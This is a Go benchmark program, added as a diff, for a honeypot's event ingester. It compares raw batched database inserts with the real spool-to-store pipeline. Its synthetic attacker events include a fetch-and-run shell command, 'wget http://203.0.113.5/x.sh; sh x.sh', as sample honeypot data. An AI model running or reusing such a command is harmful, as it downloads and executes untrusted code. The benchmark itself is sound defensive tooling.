@@ -1,0 +1,340 @@
+// Command ingest-bench measures the ingester: N synthetic events are written to a
+// spool, then (1) a bare loop inserts the same rows into the logs table with
+// multi-row INSERTs in transactions of the same batch size (no spool, no decoding,
+// no bounty, no cursor, values prepared in memory beforehand) and (2) the real
+// ingester stores them from the spool (reading, decoding, validating, bounty,
+// cursor, dedup). It prints events/s of both and their ratio, for SQLite and, when
+// DECNET_TEST_MYSQL_DSN is set, for MariaDB/MySQL. Run it through bench/ingest.sh.
+package main
+
+import (
+	"context"
+	"database/sql"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"runtime/pprof"
+	"strings"
+	"time"
+
+	"github.com/go-sql-driver/mysql"
+	_ "modernc.org/sqlite"
+
+	"decnet/internal/event"
+	"decnet/internal/ingest"
+	"decnet/internal/spool"
+	"decnet/internal/store"
+)
+
+func main() {
+	n := flag.Int("n", 1_000_000, "events")
+	batch := flag.Int("batch", ingest.DefaultBatchSize, "events per transaction (both loops)")
+	chunk := flag.Int("chunk", 256, "rows per INSERT statement in the bare loop (the store's chunk size)")
+	work := flag.String("dir", "", "work directory (default: a temporary one, removed after)")
+	cpuprofile := flag.String("cpuprofile", "", "write a CPU profile of the whole run to this file")
+	flag.Parse()
+	if *cpuprofile != "" {
+		f, err := os.Create(*cpuprofile)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "ingest-bench:", err)
+			os.Exit(1)
+		}
+		pprof.StartCPUProfile(f)
+		defer pprof.StopCPUProfile()
+	}
+	if err := run(*n, *batch, *chunk, *work); err != nil {
+		pprof.StopCPUProfile()
+		fmt.Fprintln(os.Stderr, "ingest-bench:", err)
+		os.Exit(1)
+	}
+}
+
+func run(n, batch, chunk int, work string) error {
+	if work == "" {
+		d, err := os.MkdirTemp("", "decnet-bench-ingest-")
+		if err != nil {
+			return err
+		}
+		defer os.RemoveAll(d)
+		work = d
+	}
+	spoolDir := filepath.Join(work, "spool")
+	recs := synth(n)
+	t0 := time.Now()
+	if err := writeSpool(spoolDir, recs); err != nil {
+		return err
+	}
+	fi, _ := spool.Segments(spoolDir)
+	fmt.Printf("events: %d, spool written in %s (%d segments)\n", n, time.Since(t0).Round(time.Millisecond), len(fi))
+
+	sqlitePath := filepath.Join(work, "bare.db")
+	if err := bench("SQLite", n, func() (float64, error) {
+		return bareSQLite(sqlitePath, recs, batch, chunk)
+	}, func() (float64, error) {
+		return ingestRun("sqlite://"+filepath.Join(work, "ingest.db"), spoolDir, n, batch)
+	}); err != nil {
+		return err
+	}
+	if dsn := os.Getenv("DECNET_TEST_MYSQL_DSN"); dsn != "" {
+		dsn = strings.TrimPrefix(dsn, "mysql://")
+		unlock, err := lockMySQL(dsn)
+		if err != nil {
+			return err
+		}
+		defer unlock()
+		if err := bench("MariaDB", n, func() (float64, error) {
+			return bareMySQL(dsn, recs, batch, chunk)
+		}, func() (float64, error) {
+			if err := resetMySQL(dsn); err != nil {
+				return 0, err
+			}
+			return ingestRun("mysql://"+dsn, spoolDir, n, batch)
+		}); err != nil {
+			return err
+		}
+	} else {
+		fmt.Println("MariaDB: skipped (DECNET_TEST_MYSQL_DSN is not set)")
+	}
+	return nil
+}
+
+func bench(name string, n int, bare, ing func() (float64, error)) error {
+	b, err := bare()
+	if err != nil {
+		return fmt.Errorf("%s bare insert: %w", name, err)
+	}
+	i, err := ing()
+	if err != nil {
+		return fmt.Errorf("%s ingest: %w", name, err)
+	}
+	fmt.Printf("%-8s bare batched INSERT: %9.0f events/s   ingester (spool → store): %9.0f events/s   ratio %.2f\n", name, b, i, i/b)
+	return nil
+}
+
+// synth makes n events shaped like real traffic: 2,000 attackers sending runs of 50
+// events each — connects, ssh password guesses (every guess is a new credential:
+// a brute force), http requests (user-agent fingerprints), shell commands.
+func synth(n int) []*spool.Record {
+	out := make([]*spool.Record, n)
+	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	for i := range out {
+		e := event.Event{ID: fmt.Sprintf("0190f%011x-7000-8000-%012x", i, i), Time: base.Add(time.Duration(i) * time.Millisecond),
+			Decky: fmt.Sprintf("decky-%02d", i%10), AttackerIP: fmt.Sprintf("10.9.%d.%d", (i/50)%2000/250, (i/50)%2000%250+1), AttackerPort: 1024 + i%60000}
+		switch i % 4 {
+		case 0:
+			e.Service, e.Type = "ssh", "connect"
+			e.Fields = map[string]string{"proto": "tcp"}
+		case 1:
+			e.Service, e.Type = "ssh", "auth"
+			e.Fields = map[string]string{"username": "root", "password": fmt.Sprintf("pass%d", i), "secret_kind": "plaintext",
+				"method": "password", "outcome": "failure", "client_version": "SSH-2.0-libssh2_1.10.0"}
+		case 2:
+			e.Service, e.Type = "http", "request"
+			e.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?id=%d", i), "user_agent": "Mozilla/5.0 (compatible; zgrab/0.x)", "status": "404"}
+		case 3:
+			e.Service, e.Type = "ssh", "command"
+			e.Fields = map[string]string{"command": "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "username": "root"}
+		}
+		line, err := event.Format(e)
+		if err != nil {
+			panic(err)
+		}
+		out[i] = &spool.Record{Event: e, RawLine: string(line)}
+	}
+	return out
+}
+
+func writeSpool(dir string, recs []*spool.Record) error {
+	w, err := spool.OpenWriter(dir, 0)
+	if err != nil {
+		return err
+	}
+	for _, r := range recs {
+		if _, err := w.Append(r); err != nil {
+			w.Close()
+			return err
+		}
+	}
+	return w.Close()
+}
+
+// ingestRun times the real ingester from start until it has stored n events.
+func ingestRun(dsn, spoolDir string, n, batch int) (float64, error) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	st, err := store.Open(ctx, dsn)
+	if err != nil {
+		return 0, err
+	}
+	defer st.Close()
+	in := ingest.New(ingest.Config{Store: st, SpoolDir: spoolDir, BatchSize: batch, KeepSegments: -1,
+		Log: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))})
+	done := make(chan error, 1)
+	start := time.Now()
+	go func() { done <- in.Run(ctx) }()
+	for in.Stats().Inserted < uint64(n) {
+		select {
+		case err := <-done:
+			return 0, fmt.Errorf("the ingester stopped: %v", err)
+		case <-time.After(2 * time.Millisecond):
+		}
+	}
+	el := time.Since(start)
+	cancel()
+	<-done
+	if s := in.Stats(); s.Inserted != uint64(n) || s.Duplicates != 0 {
+		return 0, fmt.Errorf("the ingester stored %d events (%d duplicates), want %d", s.Inserted, s.Duplicates, n)
+	}
+	s := in.Stats()
+	fmt.Printf("  ingester: %s wall, %s inside Store.Ingest, %d transactions, %d new bounty\n", el.Round(time.Millisecond), s.StoreTime.Round(time.Millisecond), s.Batches, s.Bounty)
+	return float64(n) / el.Seconds(), nil
+}
+
+// row is one logs row with every value ready to bind.
+type row struct {
+	id, decky, service, typ, ip, fields, msg, raw string
+	ts                                            int64
+	port                                          int
+}
+
+func rows(recs []*spool.Record) []row {
+	out := make([]row, len(recs))
+	for i, r := range recs {
+		f, _ := json.Marshal(r.Fields)
+		out[i] = row{r.ID, r.Decky, r.Service, r.Type, r.AttackerIP, string(f), r.Msg, r.RawLine, r.Time.UnixMicro(), r.AttackerPort}
+	}
+	return out
+}
+
+const insertHead = "INSERT INTO logs (event_id, timestamp, decky, service, event_type, attacker_ip, attacker_port, fields, msg, raw_line) VALUES "
+
+func insertSQL(k int) string {
+	return insertHead + strings.TrimSuffix(strings.Repeat("(?,?,?,?,?,?,?,?,?,?),", k), ",")
+}
+
+// bareLoop inserts rs in transactions of batch rows, chunk rows per statement.
+func bareLoop(db *sql.DB, rs []row, batch, chunk int) (float64, error) {
+	ctx := context.Background()
+	full, err := db.PrepareContext(ctx, insertSQL(chunk))
+	if err != nil {
+		return 0, err
+	}
+	defer full.Close()
+	args := make([]any, 0, 10*chunk)
+	start := time.Now()
+	for lo := 0; lo < len(rs); lo += batch {
+		hi := min(lo+batch, len(rs))
+		tx, err := db.BeginTx(ctx, nil)
+		if err != nil {
+			return 0, err
+		}
+		for c := lo; c < hi; c += chunk {
+			ce := min(c+chunk, hi)
+			args = args[:0]
+			for _, r := range rs[c:ce] {
+				args = append(args, r.id, r.ts, r.decky, r.service, r.typ, r.ip, r.port, r.fields, r.msg, r.raw)
+			}
+			if ce-c == chunk {
+				_, err = tx.StmtContext(ctx, full).ExecContext(ctx, args...)
+			} else {
+				_, err = tx.ExecContext(ctx, insertSQL(ce-c), args...)
+			}
+			if err != nil {
+				tx.Rollback()
+				return 0, err
+			}
+		}
+		if err := tx.Commit(); err != nil {
+			return 0, err
+		}
+	}
+	return float64(len(rs)) / time.Since(start).Seconds(), nil
+}
+
+// bareSQLite creates the store's schema in a new file, then times the bare loop with
+// the store's own connection settings (WAL, synchronous=NORMAL, one writer).
+func bareSQLite(path string, recs []*spool.Record, batch, chunk int) (float64, error) {
+	st, err := store.Open(context.Background(), "sqlite://"+path)
+	if err != nil {
+		return 0, err
+	}
+	st.Close()
+	db, err := sql.Open("sqlite", path+"?_busy_timeout=5000&_journal_mode=WAL&_synchronous=NORMAL&_txlock=immediate&_pragma=temp_store(memory)&_pragma=cache_size(-32768)")
+	if err != nil {
+		return 0, err
+	}
+	defer db.Close()
+	db.SetMaxOpenConns(1)
+	return bareLoop(db, rows(recs), batch, chunk)
+}
+
+func bareMySQL(dsn string, recs []*spool.Record, batch, chunk int) (float64, error) {
+	if err := resetMySQL(dsn); err != nil {
+		return 0, err
+	}
+	st, err := store.Open(context.Background(), "mysql://"+dsn)
+	if err != nil {
+		return 0, err
+	}
+	st.Close()
+	db, err := sql.Open("mysql", dsn)
+	if err != nil {
+		return 0, err
+	}
+	defer db.Close()
+	return bareLoop(db, rows(recs), batch, chunk)
+}
+
+// lockMySQL takes the lock the store tests take on the shared test database, so the
+// benchmark does not drop tables under a running test (and the other way round).
+func lockMySQL(dsn string) (func(), error) {
+	db, err := sql.Open("mysql", dsn)
+	if err != nil {
+		return nil, err
+	}
+	conn, err := db.Conn(context.Background())
+	if err != nil {
+		db.Close()
+		return nil, fmt.Errorf("connect to MariaDB: %w", err)
+	}
+	var got sql.NullInt64
+	if err := conn.QueryRowContext(context.Background(), "SELECT GET_LOCK('decnet_test_database', 600)").Scan(&got); err != nil || got.Int64 != 1 {
+		db.Close()
+		return nil, fmt.Errorf("take the test database lock: %v (got %v)", err, got)
+	}
+	return func() { conn.Close(); db.Close() }, nil
+}
+
+// resetMySQL drops every table of the (test) database.
+func resetMySQL(dsn string) error {
+	cfg, err := mysql.ParseDSN(dsn)
+	if err != nil {
+		return err
+	}
+	db, err := sql.Open("mysql", cfg.FormatDSN())
+	if err != nil {
+		return err
+	}
+	defer db.Close()
+	rs, err := db.Query("SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()")
+	if err != nil {
+		return err
+	}
+	var names []string
+	for rs.Next() {
+		var s string
+		if rs.Scan(&s) == nil {
+			names = append(names, s)
+		}
+	}
+	rs.Close()
+	for _, t := range names {
+		if _, err := db.Exec("DROP TABLE IF EXISTS `" + strings.ReplaceAll(t, "`", "``") + "`"); err != nil {
+			return err
+		}
+	}
+	return nil
+}
